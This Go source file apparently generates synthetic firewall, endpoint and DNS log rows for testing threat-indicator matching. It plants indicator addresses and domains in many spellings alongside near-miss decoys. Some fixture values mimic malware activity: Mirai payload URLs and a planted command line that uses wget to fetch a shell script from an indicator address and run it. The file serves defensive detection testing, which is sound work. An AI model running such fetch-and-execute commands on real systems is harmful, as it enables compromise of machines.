package gen

import (
	"net/netip"
	"strconv"
	"strings"

	"golang.org/x/net/idna"
)

// A plant is one way of writing an indicator into a row, or of writing what
// only looks like one.
type plant struct {
	name string
	of   func(Indicator) bool // the indicators that can be written so
	set  func(*maker, *Row, Indicator)
}

// What plants are made of.
func anyAddr(i Indicator) bool  { return i.Kind != Domain }
func v4(i Indicator) bool       { return i.Kind != Domain && i.Addr.Is4() }
func v6(i Indicator) bool       { return i.Kind != Domain && i.Addr.Is6() }
func bareV4(i Indicator) bool   { return i.Kind == Addr && i.Addr.Is4() }
func v4Port(i Indicator) bool   { return i.Kind == AddrPort && i.Addr.Is4() }
func v6Port(i Indicator) bool   { return i.Kind == AddrPort && i.Addr.Is6() }
func domain(i Indicator) bool   { return i.Kind == Domain }
func idn(i Indicator) bool      { return i.Kind == Domain && strings.Contains(i.Name, "xn--") }
func ascii(i Indicator) bool    { return i.Kind == Domain && !strings.Contains(i.Name, "xn--") }
func belowReg(i Indicator) bool { return i.Kind == Domain && strings.Count(i.Name, ".") == 2 }

// plant writes one of the table's spellings into the row, or not. The
// spellings take turns, so that a few hundred rows show all of them.
func (m *maker) plant(t *Table, r *Row) {
	f := m.o.Feed
	if f == nil || f.N == 0 {
		return
	}
	list, next := t.hits, &m.hit
	switch u := float64(m.rnd.Uint64()>>11) * (1.0 / (1 << 53)); {
	case u < m.o.Hits:
	case u < m.o.Hits+m.o.Near:
		list, next = t.near, &m.miss
	default:
		return
	}
	// A short list may lack an indicator of the kind; then the next spelling
	// takes its turn.
	for range len(list) {
		p := &list[*next%len(list)]
		*next++
		for range 256 {
			if i := f.At(m.n(f.N)); p.of(i) {
				p.set(m, r, i)
				return
			}
		}
	}
}

func (r *Row) truth(column, value, indicator, class string, hit Found) {
	r.Truth = append(r.Truth, Planted{Column: column, Value: value, Indicator: indicator, Class: class, Hit: hit})
}

// addr writes an address as text into a column with a paired port column, and
// lets the ports of an ip:port indicator agree in two rows of three. A port
// that stands in the text is own, else -1.
func (m *maker) addr(r *Row, c, portCol int, text string, i Indicator, own int) {
	r.str(c, text)
	class := "ip"
	if i.Kind == AddrPort {
		class = "ip-only"
		if portCol >= 0 && own < 0 {
			if m.n(3) < 2 {
				r.num(portCol, int64(i.Port))
			} else {
				r.num(portCol, int64(i.Port+1))
			}
		} else if portCol >= 0 {
			r.num(portCol, int64(i.Port+2))
		}
		if own == i.Port || portCol >= 0 && string(r.Cell(portCol)) == strconv.Itoa(i.Port) {
			class = "ip:port"
		}
	}
	r.truth(r.Table.Columns[c].Name, text, i.Value, class, Yes)
}

// in is a plant of an address spelled by form into a column.
func in(name string, c, portCol int, of func(Indicator) bool, form func(Indicator) (text string, own int)) plant {
	return plant{name, of, func(m *maker, r *Row, i Indicator) {
		text, own := form(i)
		m.addr(r, c, portCol, text, i, own)
	}}
}

// The spellings of an address.
func plain(i Indicator) (string, int)  { return i.Addr.String(), -1 }
func mapped(i Indicator) (string, int) { return "::ffff:" + i.Addr.String(), -1 }
func padded(i Indicator) (string, int) { return " " + i.Addr.String() + " ", -1 }
func quoted(i Indicator) (string, int) { return `"` + i.Addr.String() + `"`, -1 }

func mappedHex(i Indicator) (string, int) {
	b := i.Addr.As4()
	h := func(hi, lo byte) string { return strconv.FormatUint(uint64(hi)<<8|uint64(lo), 16) }
	return strings.ToUpper("::ffff:" + h(b[0], b[1]) + ":" + h(b[2], b[3])), -1
}

func zeroes(i Indicator) (string, int) {
	b := i.Addr.As4()
	var s []byte
	for k, o := range b {
		if k > 0 {
			s = append(s, '.')
		}
		s = pad(s, int(o), 3)
	}
	return string(s), -1
}

func expanded(i Indicator) (string, int) {
	return strings.ToUpper(i.Addr.StringExpanded()), -1
}

func withPort(i Indicator) (string, int) {
	return netip.AddrPortFrom(i.Addr, uint16(i.Port)).String(), i.Port
}

func otherPort(i Indicator) (string, int) {
	return netip.AddrPortFrom(i.Addr, uint16(i.Port+1)).String(), i.Port + 1
}

func mappedPort(i Indicator) (string, int) {
	return "[::ffff:" + i.Addr.String() + "]:" + strconv.Itoa(i.Port), i.Port
}

// The spellings of a name.
func same(n string) string    { return n }
func upper(n string) string   { return strings.ToUpper(n) }
func below(n string) string   { return "x7.cdn." + n }
func dotted(n string) string  { return n + "." }
func asURL(n string) string   { return "http://" + n + "/bins/mirai.arm7?a=1,2&b=" }
func bareURL(n string) string { return n + "/bins/x.sh" }
func connect(n string) string { return n + ":8443" }
func userURL(n string) string { return "https://user:pw@" + n + ":8080/x?y#z" }
func loudURL(n string) string { return "HTTPS://" + strings.ToUpper(n) + "./" }
func debugName(n string) string { // as the Windows DNS debug log has names
	var b []byte
	for l := range strings.SplitSeq(n, ".") {
		b = strconv.AppendInt(append(b, '('), int64(len(l)), 10)
		b = append(append(b, ')'), l...)
	}
	return string(append(b, "(0)"...))
}

func unicode(n string) string {
	u, err := idna.Punycode.ToUnicode(n)
	if err != nil {
		panic("gen: " + err.Error()) // our own names
	}
	return u
}

// The near misses of a name, most of which KQL's has_any takes for it.
func notName(n string) string    { return "not" + n }
func afterName(n string) string  { return n + ".bluebank.example" }
func hyphenated(n string) string { return "a-" + n }
func cdnName(n string) string    { return n + "-cdn.net" }
func defanged(n string) string   { return strings.ReplaceAll(n, ".", "[.]") }
func longer(n string) string     { return n + "x" }
func parent(n string) string     { return n[strings.IndexByte(n, '.')+1:] }
func inQuery(n string) string    { return "https://www.bluebank.example/?u=" + n }
func inPath(n string) string     { return "https://www.bluebank.example/" + n + "/x" }
func asUser(n string) string     { return "http://" + n + "@www.bluebank.example/" }

// named is a plant of a name into a column.
func named(name string, c int, of func(Indicator) bool, form func(string) string) plant {
	return plant{name, of, func(m *maker, r *Row, i Indicator) {
		text := form(i.Name)
		r.str(c, text)
		class := "domain"
		if strings.Contains(text, below("")) {
			class = "subdomain"
		}
		r.truth(r.Table.Columns[c].Name, text, i.Value, class, Yes)
	}}
}

// unlike is a plant of a name that is not the indicator's. Term says that
// KQL's has_any would take it for one.
func unlike(name string, c int, of func(Indicator) bool, term bool, form func(string) string) plant {
	return plant{name, of, func(m *maker, r *Row, i Indicator) {
		text := form(i.Name)
		r.str(c, text)
		class := ""
		if term {
			class = "term"
		}
		r.truth(r.Table.Columns[c].Name, text, i.Value, class, No)
	}}
}

// notAddr is a plant of text that is not the indicator's address.
func notAddr(name string, c int, of func(Indicator) bool, form func(*maker, Indicator) string) plant {
	return plant{name, of, func(m *maker, r *Row, i Indicator) {
		text := form(m, i)
		r.str(c, text)
		r.truth(r.Table.Columns[c].Name, text, i.Value, "", No)
	}}
}

func digitBefore(_ *maker, i Indicator) string { return "1" + i.Addr.String() }
func fifthPart(_ *maker, i Indicator) string   { return i.Addr.String() + ".5" }
func compatible(_ *maker, i Indicator) string  { return "::" + i.Addr.String() }
func defangedAddr(_ *maker, i Indicator) string {
	return strings.ReplaceAll(i.Addr.String(), ".", "[.]")
}

// neighbour is the nearest address that is no indicator.
func neighbour(m *maker, i Indicator) string {
	a := i.Addr.As4()
	for m.o.Feed.HasAddr(a) {
		a[3]++
		if a[3] == i.Addr.As4()[3] {
			a[2]++
		}
	}
	return netip.AddrFrom4(a).String()
}

var firewallHits = []plant{
	in("destination", fw.dst, fw.dstPort, anyAddr, plain),
	in("source", fw.src, fw.srcPort, anyAddr, plain),
	in("mapped", fw.dst, fw.dstPort, v4, mapped),
	in("mapped hex", fw.dst, fw.dstPort, v4, mappedHex),
	in("expanded IPv6", fw.dst, fw.dstPort, v6, expanded),
	in("port in the cell", fw.dst, fw.dstPort, v4Port, withPort),
	in("other port in the cell", fw.dst, fw.dstPort, v4Port, otherPort),
	in("bracketed IPv6 with port", fw.dst, fw.dstPort, v6Port, withPort),
	in("bracketed mapped with port", fw.src, fw.srcPort, v4Port, mappedPort),
	in("zero-padded", fw.dst, fw.dstPort, v4, zeroes),
	in("blanks round it", fw.dst, fw.dstPort, v4, padded),
	in("stray quotes", fw.dst, fw.dstPort, v4, quoted),
	in("translated", fw.dstNat, fw.dstNatPort, anyAddr, plain),
	in("remote", fw.remote, fw.remotePort, anyAddr, plain),
	in("custom IPv6", fw.v6dst, -1, v6, expanded),
	in("address as host name", fw.dstHost, fw.dstPort, anyAddr, plain),
	named("host", fw.dstHost, domain, same),
	named("upper-case host", fw.dstHost, domain, upper),
	named("host below", fw.dstHost, domain, below),
	named("domain with root dot", fw.dstDomain, domain, dotted),
	named("source host", fw.srcHost, domain, below),
	named("URL", fw.url, domain, asURL),
	named("URL without scheme", fw.url, domain, bareURL),
	named("CONNECT", fw.url, domain, connect),
	named("URL with user", fw.url, domain, userURL),
	named("loud URL", fw.url, ascii, loudURL),
	named("URL below", fw.url, domain, func(n string) string { return asURL(below(n)) }),
	named("Unicode host", fw.dstHost, idn, unicode),
	{"URL of an address", v4Port, func(m *maker, r *Row, i Indicator) {
		m.addr(r, fw.url, fw.dstPort, "http://"+i.Addr.String()+":"+strconv.Itoa(i.Port)+"/bins/mirai.x86", i, i.Port)
	}},
	{"address in the message", bareV4, func(m *maker, r *Row, i Indicator) {
		r.str(fw.message, "Session \"4711\", peer "+i.Addr.String()+", closed\nby reset.")
		r.truth("Message", i.Addr.String(), i.Value, "ip", Deep)
	}},
	{"name in the message", ascii, func(m *maker, r *Row, i Indicator) {
		r.str(fw.message, "Category changed for "+i.Name+".\nSee \"policy, 7\"")
		r.truth("Message", i.Name, i.Value, "domain", Deep)
	}},
}

var firewallNear = []plant{
	notAddr("digit before", fw.dstHost, v4, digitBefore),
	notAddr("fifth part", fw.dst, v4, fifthPart),
	notAddr("IPv4-compatible", fw.dst, v4, compatible),
	notAddr("neighbour", fw.dst, v4, neighbour),
	notAddr("defanged address", fw.dstHost, v4, defangedAddr),
	unlike("letters before", fw.dstHost, domain, false, notName),
	unlike("name goes on", fw.dstHost, domain, true, afterName),
	unlike("hyphen before", fw.dstHost, domain, true, hyphenated),
	unlike("hyphen after", fw.dstHost, domain, true, cdnName),
	unlike("parent", fw.dstHost, belowReg, false, parent),
	unlike("in the query", fw.url, domain, true, inQuery),
	unlike("in the path", fw.url, domain, true, inPath),
	unlike("as user", fw.url, domain, true, asUser),
	unlike("defanged", fw.dstHost, domain, false, defanged),
}

// kind sets how the sensor calls the address it has just been given.
func kind(p plant, c int, text string) plant {
	set := p.set
	p.set = func(m *maker, r *Row, i Indicator) {
		set(m, r, i)
		r.str(c, text)
	}
	return p
}

// typed is a plant of a name into a member of AdditionalFields.
func typed(name, member string, of func(Indicator) bool, form func(string) string, set func(*maker, *Row, string)) plant {
	return plant{name, of, func(m *maker, r *Row, i Indicator) {
		text := form(i.Name)
		set(m, r, text)
		class := "domain"
		if strings.Contains(text, below("")) {
			class = "subdomain"
		}
		r.truth("AdditionalFields."+member, text, i.Value, class, Yes)
	}}
}

func setQuery(m *maker, r *Row, n string)   { m.dnsInspected(r, []byte(n), false, m.public()) }
func setEscaped(m *maker, r *Row, n string) { m.dnsInspected(r, []byte(n), true, m.public()) }
func setAnswer(m *maker, r *Row, n string) {
	m.dnsInspected(r, []byte("www.bluebank.example"), false, m.domain(), n, m.public())
}
func setHost(m *maker, r *Row, n string)   { m.httpInspected(r, n, "/bins/mirai.arm7") }
func setURI(m *maker, r *Row, n string)    { m.httpInspected(r, "www.bluebank.example", n) }
func setServer(m *maker, r *Row, n string) { m.tlsInspected(r, n) }

var endpointHits = []plant{
	kind(in("remote", ep.remote, ep.remotePort, anyAddr, plain), ep.remoteType, "Public"),
	kind(in("mapped", ep.remote, ep.remotePort, v4, mapped), ep.remoteType, "FourToSixMapping"),
	kind(in("mapped hex", ep.remote, ep.remotePort, v4, mappedHex), ep.remoteType, "FourToSixMapping"),
	kind(in("expanded IPv6", ep.remote, ep.remotePort, v6, expanded), ep.remoteType, "Public"),
	{"inbound", anyAddr, func(m *maker, r *Row, i Indicator) {
		r.str(ep.action, "InboundConnectionAccepted")
		m.addr(r, ep.remote, ep.remotePort, i.Addr.String(), i, -1)
	}},
	in("port in the cell", ep.remote, ep.remotePort, v4Port, withPort),
	in("remote session", ep.rdp, -1, anyAddr, plain),
	in("address as URL", ep.url, ep.remotePort, anyAddr, func(i Indicator) (string, int) {
		if i.Addr.Is6() {
			return "http://[" + i.Addr.String() + "]/", -1
		}
		return "http://" + i.Addr.String() + "/i", -1
	}),
	named("URL's host alone", ep.url, domain, same),
	named("host and port", ep.url, domain, connect),
	named("URL", ep.url, domain, asURL),
	named("upper-case host", ep.url, domain, upper),
	named("host below", ep.url, domain, below),
	named("host with root dot", ep.url, domain, dotted),
	named("Unicode host", ep.url, idn, unicode),
	typed("query", "query", domain, same, setQuery),
	typed("query below", "query", domain, below, setQuery),
	typed("upper-case query", "query", domain, upper, setQuery),
	typed("escaped query", "query", domain, same, setEscaped),
	typed("name among answers", "answers", domain, same, setAnswer),
	typed("HTTP host", "host", domain, same, setHost),
	typed("HTTP host and port", "host", domain, connect, setHost),
	typed("HTTP URL", "uri", domain, asURL, setURI),
	typed("TLS name", "server_name", domain, below, setServer),
	{"address among answers", anyAddr, func(m *maker, r *Row, i Indicator) {
		setAnswer(m, r, i.Addr.String())
		r.truth("AdditionalFields.answers", i.Addr.String(), i.Value, class(i), Yes)
	}},
	{"mapped among answers", v4, func(m *maker, r *Row, i Indicator) {
		setAnswer(m, r, "::ffff:"+i.Addr.String())
		r.truth("AdditionalFields.answers", "::ffff:"+i.Addr.String(), i.Value, class(i), Yes)
	}},
	{"command line", bareV4, func(m *maker, r *Row, i Indicator) {
		r.str(ep.cmd, `sh -c "cd /tmp, wget http://`+i.Addr.String()+`/bins/x.sh; sh x.sh"`)
		r.truth("InitiatingProcessCommandLine", i.Addr.String(), i.Value, "ip", Deep)
	}},
}

// class is that of an address where no port can agree.
func class(i Indicator) string {
	if i.Kind == AddrPort {
		return "ip-only"
	}
	return "ip"
}

var endpointNear = []plant{
	notAddr("neighbour", ep.remote, v4, neighbour),
	notAddr("fifth part", ep.remote, v4, fifthPart),
	notAddr("digit before", ep.url, v4, digitBefore),
	notAddr("IPv4-compatible", ep.remote, v4, compatible),
	unlike("letters before", ep.url, domain, false, notName),
	unlike("name goes on", ep.url, domain, true, afterName),
	unlike("hyphen before", ep.url, domain, true, hyphenated),
	unlike("in the query", ep.url, domain, true, inQuery),
	unlike("as user", ep.url, domain, true, asUser),
	{"query letters before", domain, func(m *maker, r *Row, i Indicator) {
		setQuery(m, r, notName(i.Name))
		r.truth("AdditionalFields.query", notName(i.Name), i.Value, "", No)
	}},
	{"answer goes on", domain, func(m *maker, r *Row, i Indicator) {
		setAnswer(m, r, afterName(i.Name))
		r.truth("AdditionalFields.answers", afterName(i.Name), i.Value, "term", No)
	}},
}

// listed is a plant of an address among others in IPAddresses.
func listed(name string, of func(Indicator) bool, form func(Indicator) (string, int)) plant {
	return plant{name, of, func(m *maker, r *Row, i Indicator) {
		text, _ := form(i)
		r.str(dn.addrs, m.public()+", "+text+", "+m.public())
		r.truth("IPAddresses", text, i.Value, class(i), Yes)
	}}
}

var lookupHits = []plant{
	named("name", dn.name, domain, same),
	named("upper-case name", dn.name, domain, upper),
	named("name below", dn.name, domain, below),
	named("root dot", dn.name, domain, dotted),
	named("below, upper case, root dot", dn.name, ascii, func(n string) string { return "_dns." + below(strings.ToUpper(n)) + "." }),
	named("Unicode name", dn.name, idn, unicode),
	named("debug form", dn.name, domain, debugName),
	named("ideographic stop", dn.name, ascii, func(n string) string { return strings.Replace(n, ".", "。", 1) }),
	listed("answer", anyAddr, plain),
	listed("mapped answer", v4, mapped),
	listed("expanded answer", v6, expanded),
	in("only answer", dn.addrs, -1, anyAddr, plain),
	in("client", dn.client, -1, anyAddr, plain),
	in("enrichment", dn.malicious, -1, v4, plain),
	{"name in the message", ascii, func(m *maker, r *Row, i Indicator) {
		r.str(dn.message, "Response rate limited for "+i.Name+", \"slip\" 2")
		r.truth("Message", i.Name, i.Value, "domain", Deep)
	}},
}

var lookupNear = []plant{
	unlike("letters before", dn.name, domain, false, notName),
	unlike("letter after", dn.name, domain, false, longer),
	unlike("name goes on", dn.name, domain, true, afterName),
	unlike("hyphen before", dn.name, domain, true, hyphenated),
	unlike("hyphen after", dn.name, domain, true, cdnName),
	unlike("parent", dn.name, belowReg, false, parent),
	unlike("defanged", dn.name, domain, false, defanged),
	notAddr("address as name", dn.name, v4, func(_ *maker, i Indicator) string { return i.Addr.String() }),
	notAddr("neighbour", dn.addrs, v4, neighbour),
	notAddr("fifth part", dn.addrs, v4, fifthPart),
}
